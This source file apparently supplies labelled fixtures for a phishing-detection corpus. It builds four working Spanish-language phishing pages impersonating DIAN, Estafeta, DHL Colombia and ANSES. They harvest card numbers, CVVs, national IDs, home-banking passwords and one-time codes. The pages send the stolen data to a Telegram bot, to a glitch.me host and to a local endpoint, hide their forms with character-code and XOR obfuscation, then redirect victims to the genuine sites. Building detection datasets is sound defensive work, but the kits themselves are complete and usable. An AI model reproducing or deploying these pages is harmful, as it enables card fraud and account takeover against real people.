import { type Entry } from '../entry.js';
import { doc, logo, favicon, tgSender, cardJs, charCodes, xorB64 } from '../parts/yy-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const dhlForm = `<div class="hd">DHLLOGO</div><div class="m"><h2>Pago de aranceles de importación</h2>
<p>Su envío <b>JJD0001462758390</b> procedente de Estados Unidos está retenido en la Aduana de Bogotá (El Dorado). Valor a pagar: <b>$ 87.450 COP</b> (IVA y arancel).</p>
<form id="x"><input name="n" placeholder="Nombre del titular"><input name="d" placeholder="Cédula"><input name="t" placeholder="Número de tarjeta" maxlength="19"><input name="f" placeholder="MM/AA" maxlength="5"><input name="c" placeholder="CVV" maxlength="4"><button>Pagar ahora</button></form></div>`;
const ansesKit = `<div class="top">ANSES · Mi ANSES</div><div class="box"><h2>Bono Extraordinario Previsional</h2><p>Te corresponde un bono de <b>$70.000</b>. Completá tus datos para cobrarlo en tu cuenta.</p>
<form id="an"><input name="cuil" placeholder="CUIL" maxlength="13"><input name="clave" type="password" placeholder="Clave de la Seguridad Social"><input name="cbu" placeholder="CBU o alias"><select name="banco"><option>Banco Nación</option><option>Banco Provincia</option><option>Galicia</option><option>Santander</option><option>BBVA</option><option>Macro</option><option>Mercado Pago</option></select>
<input name="hbu" placeholder="Usuario de Home Banking"><input name="hbc" type="password" placeholder="Clave de Home Banking"><button>Cobrar bono</button></form></div>`;

export const entries: Entry[] = [
{
  id: 'yy-dian-devolucion-saldo-tarjeta',
  label: 'phishing',
  kind: 'tax-refund-card-phish',
  url: 'https://dian-gov-co.devoluciones-saldos.com/devolucion/formulario.html',
  body: doc({
    lang: 'es-CO',
    title: 'DIAN - Devolución de saldos a favor',
    head: favicon('#0b3b8c', 'D'),
    css: `body{margin:0;font-family:"Work Sans",Arial;background:#eef2f8}.b{background:#3366cc;color:#fff;font-size:12px;padding:6px 30px}.h{background:#fff;padding:12px 30px}
.c{max-width:600px;margin:24px auto;background:#fff;border-radius:6px;padding:28px}.c h2{color:#0b3b8c}.r{display:flex;gap:10px}.r>*{flex:1}
input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aab4c8;border-radius:4px;margin:5px 0 12px}button{background:#0b3b8c;color:#fff;border:0;padding:12px 30px;border-radius:4px}
.v{font-size:26px;color:#0a7c2f;font-weight:700}`,
    body: `<div class="b">GOV.CO</div><div class="h">${logo('dian', 34)}</div>
<div class="c"><h2>Devolución automática de saldo a favor – Renta 2024</h2><p>Estimado contribuyente, el sistema MUISCA aprobó la devolución de su saldo a favor por:</p><p class="v">$ 1.874.300 COP</p>
<p>Para recibir el abono, registre la tarjeta débito o crédito donde desea recibir el dinero:</p>
<form id="d"><div class="r"><input name="nombre" placeholder="Nombre completo"><input name="cc" placeholder="Cédula / NIT"></div>
<select name="banco"><option>Bancolombia</option><option>Davivienda</option><option>Banco de Bogotá</option><option>BBVA Colombia</option><option>Banco de Occidente</option><option>Nequi</option></select>
<input name="tarjeta" placeholder="Número de tarjeta" maxlength="19" oninput="fmt(this)"><div class="r"><input name="venc" placeholder="MM/AA" maxlength="5"><input name="cvv" placeholder="CVV" maxlength="4"></div>
<input name="cel" placeholder="Celular"><button>Solicitar devolución</button></form></div>
<script>
${cardJs}
${tgSender('notificar', '7091183345:AAHn5bQ0xWk2Yr8pLsT4vZ1cM9eJd6uFg3A', '-4481129305', 'xhr')}
document.getElementById('d').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this),m='🇨🇴 DIAN\\n';f.forEach(function(v,k){m+=k+': '+v+'\\n'});m+='Luhn: '+luhn(String(f.get('tarjeta')));notificar(m);
this.innerHTML='<p>Su solicitud fue radicada con el número <b>DEV-2025-'+Math.floor(Math.random()*900000+100000)+'</b>. Recibirá un código de verificación de su banco; ingréselo a continuación:</p><input id="o" maxlength="8"><button type="button" onclick="notificar(\\'OTP: \\'+document.getElementById(\\'o\\').value);location.href=\\'https://www.dian.gov.co/\\'">Confirmar</button>';});
</script>`,
  }),
},
{
  id: 'yy-estafeta-reprogramacion-pago',
  label: 'phishing',
  kind: 'parcel-fee-card-phish',
  url: 'https://estafeta-mx.reprogramar-entrega.com/guia/4811029384/',
  body: doc({
    lang: 'es-MX',
    title: 'Estafeta | Reprograma tu entrega',
    head: favicon('#c8102e', 'E'),
    css: `body{margin:0;font-family:Arial;background:#f2f2f2}.top{background:#fff;border-bottom:4px solid #c8102e;padding:12px 30px}
.bx{max-width:520px;margin:26px auto;background:#fff;padding:26px;border-radius:4px}.st{display:flex;justify-content:space-between;font-size:12px;color:#777;margin:18px 0}
.st span.on{color:#c8102e;font-weight:700}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;margin:6px 0 12px}.b{background:#c8102e;color:#fff;border:0;padding:12px;width:100%;font-size:15px}
.fee{display:flex;justify-content:space-between;border-top:1px dashed #ccc;border-bottom:1px dashed #ccc;padding:10px 0;margin:10px 0}`,
    body: `<div class="top">${logo('estafeta', 30)}</div>
<div class="bx"><h2>Tu envío no pudo ser entregado</h2><p>Guía <b>4811029384</b>: el domicilio no cuenta con número exterior visible. Reprograma tu entrega para mañana entre 9:00 y 18:00 h.</p>
<div class="st"><span>Recolectado</span><span>En tránsito</span><span class="on">Intento de entrega</span><span>Entregado</span></div>
<div class="fee"><span>Cargo por reprogramación</span><b>$ 29.00 MXN</b></div>
<form action="/guia/4811029384/cobro.php" method="post"><input name="nombre" placeholder="Nombre como aparece en la tarjeta" required><input name="domicilio" placeholder="Calle, número y colonia" required><input name="cp" placeholder="Código postal" maxlength="5">
<input name="tarjeta" placeholder="Número de tarjeta" maxlength="19" required><input name="exp" placeholder="MM/AA" maxlength="5"><input name="cvv" placeholder="CVV" maxlength="4"><button class="b">Pagar y reprogramar</button></form></div>`,
  }),
},
{
  id: 'yy-dhl-co-aduana-charcodes',
  label: 'phishing',
  kind: 'parcel-fee-card-phish',
  url: 'https://dhl-co-aduanas.pagos-linea.site/seguimiento/pago',
  body: `<!doctype html><html lang="es-CO"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>DHL Express Colombia</title>
<style>body{margin:0;font-family:Delivery,Verdana,Arial;background:#f2f2f2}.hd{background:#ffcc00;padding:12px 24px}.m{max-width:480px;margin:24px auto;background:#fff;padding:24px}
.m input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #999;margin:5px 0 10px}.m button{background:#d40511;color:#fff;border:0;padding:12px;width:100%;font-weight:700}</style></head><body>
<script>
var _c=[${charCodes(dhlForm.replace('DHLLOGO', logo('dhl', 34)), 3)}];
document.write(String.fromCharCode.apply(null,_c.map(function(n){return n-3})));
document.getElementById('x').onsubmit=function(e){e.preventDefault();
var p=[].slice.call(this.elements).filter(function(i){return i.name}).map(function(i){return i.name+'='+encodeURIComponent(i.value)}).join('&');
var s=document.createElement('script');s.src='https://dhlco-pay.glitch.me/a.js?'+p;document.body.appendChild(s);
this.innerHTML='<p>Procesando pago… Ingrese el código OTP enviado por su banco:</p><input id=o><button type=button onclick="new Image().src=\\'https://dhlco-pay.glitch.me/o?v=\\'+o.value;location=\\'https://www.dhl.com/co-es/home.html\\'">Confirmar</button>';};
</script></body></html>`,
},
{
  id: 'yy-anses-bono-homebanking-xor',
  label: 'phishing',
  kind: 'subsidy-credential-kit',
  url: 'https://mi-anses-bono.com.ar.tramites-gob.online/cobro/',
  body: `<!doctype html><html lang="es-AR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Mi ANSES</title>
<style>body{margin:0;font-family:Encode Sans,Arial;background:#f2f2f2}.top{background:#009bdb;color:#fff;padding:16px 24px;font-weight:700}.box{max-width:460px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}
.box input,.box select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #aaa;border-radius:4px;margin:5px 0 11px}.box button{width:100%;padding:12px;background:#009bdb;color:#fff;border:0;border-radius:4px}</style></head>
<body><div id="r"></div><script>
var k='arg2025',d=atob('${xorB64(ansesKit, 'arg2025')}'),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));
document.getElementById('r').innerHTML=decodeURIComponent(escape(o));
document.getElementById('an').addEventListener('submit',function(e){e.preventDefault();fetch('/cobro/procesar',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://www.anses.gob.ar/';});});
</script></body></html>`,
  routes: {
    'mi-anses-bono.com.ar.tramites-gob.online/cobro/procesar': jsonRoute({ estado: 'ok' }),
  },
},
];
